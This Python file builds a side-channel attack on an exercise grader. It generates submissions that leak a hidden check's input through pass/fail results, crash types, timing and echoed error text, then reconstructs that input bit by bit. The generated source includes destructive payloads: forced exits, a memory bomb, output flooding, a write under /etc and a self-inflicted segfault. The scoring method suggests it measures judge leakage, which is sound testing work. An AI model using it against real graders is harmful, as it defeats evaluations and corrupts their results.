"""A program that hands in answers to learn a hidden input: by what it is told of each, and by when it is told.

It knows how to solve the exercise. What a check of its answer does depends on the input that the check passes in, in
as many ways as there are to end; it reads every word of what comes back, and picks what to ask next by that.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Any

WAYS = 8  #: ways to end of which the first solves the check

#: Asks for bit A by being right or wrong, for three bits at B by how it is wrong, for four bits at C by time.
SOURCE = """
import os
def solved(n):
    return n % 1000003
def ask(n):
    if n < 100:
        return solved(n)
    print("took", hex(n), SECONDS[n >> {c:4d} & 15])
    if n >> {a:4d} & 1:
        return solved(n)
    way = n >> {b:4d} & 7
    if way == 1: raise ValueError(hex(n))
    if way == 2: os._exit(n & 127)
    if way == 3: bytearray(1 << 45)
    if way == 4: print("x" * 1_000_000)
    if way == 5: open("/etc/" + hex(n)[:200], "w")
    if way == 6: return type("T" + hex(n)[2:200], (), {{}})()
    if way == 7: os.kill(os.getpid(), 11)
    return hex(n)
SECONDS = {seconds}
def f(n): return ask(n)
# {salt:6d}
"""
#: By the two high bits of four: a time for each of what the release leaves apart. The two low ones lie within.
SECONDS = [at + part for at in (0.02, 0.3, 1.5, 5.0) for part in (0.0, 0.05, 0.1, 0.15)]


@dataclass
class Told:
    """What came back for one source: all the words, and the seconds it took to come."""

    answer: dict[str, Any]
    seconds: float

    @property
    def passed(self) -> bool:
        """Whether the hidden check passed."""
        return any(check["hidden"] and check["status"] == "passed" for check in self.answer["judgement"]["checks"])

    @property
    def words(self) -> str:
        """All that could differ, but for numbers of the submission and how the exercise stands by all so far."""
        text = json.dumps({**self.answer, "exercise": None}, sort_keys=True)
        text = re.sub(r'"(id|submission)": "[^"]*"', "", text)
        text = re.sub(r'"counts": \w+', "", text)  # whether it is the best so far
        return re.sub(r'"\w*(_at|updated|attempts|tries)\w*": ("[^"]*"|[0-9.]+|\{[^}]*\})', "", text)


@dataclass
class Attacker:
    """Learns bit for bit what a hidden check passes in; `bits` is how long that is."""

    bits: int
    known: dict[int, int] = field(default_factory=dict)
    seen: set[tuple[str, float]] = field(default_factory=set)
    leaks: list[str] = field(default_factory=list)
    sent: int = 0
    _asked: tuple[int, int, int] = (0, 0, 0)

    def next_source(self) -> str:
        """By what is known by now: the first bit that is not, and the next ones by time."""
        free = (bit for bit in range(self.bits) if bit not in self.known)
        a = next(free, 0)
        c = next((bit for bit in range(a + 1, self.bits - 3) if not {bit + 2, bit + 3} & self.known.keys()), 0)
        self._asked = (a, (7 * a) % self.bits, c)
        self.sent += 1
        return SOURCE.format(a=a, b=self._asked[1], c=c, seconds=SECONDS, salt=self.sent)

    def hear(self, told: Told) -> None:
        """Learn from the answer."""
        a, _, c = self._asked
        self.known[a] = int(told.passed)
        after = sorted({0.25, 1.0, 4.0, 10.0})
        level = next(n for n, most in enumerate(after) if told.seconds <= most)
        if c:
            self.known[c + 2], self.known[c + 3] = level & 1, level >> 1
        self.seen.add((told.words, after[level] if told.seconds > after[0] else 0.0))
        self.leaks += re.findall(r"0x[0-9a-f]{9,}|T[0-9a-f]{9,}|took [0-9a-fx. ]+", told.words)

    def right(self, secret: int) -> int:
        """How many bits it has right, of those that it thinks it knows."""
        return sum(secret >> bit & 1 == value for bit, value in self.known.items())
